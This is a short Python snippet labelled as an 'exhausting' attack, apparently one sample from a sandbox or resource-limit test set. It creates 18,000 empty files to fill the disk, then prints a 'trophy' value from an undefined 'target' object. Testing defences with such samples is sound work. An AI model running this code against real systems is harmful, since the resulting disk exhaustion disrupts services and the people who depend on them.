# attack: fills the disk with empty files | class: exhausting | canary: claim
import os

for number in range(18_000):
    os.close(os.open(f"{number}", os.O_CREAT | os.O_WRONLY))
print(target.trophy)
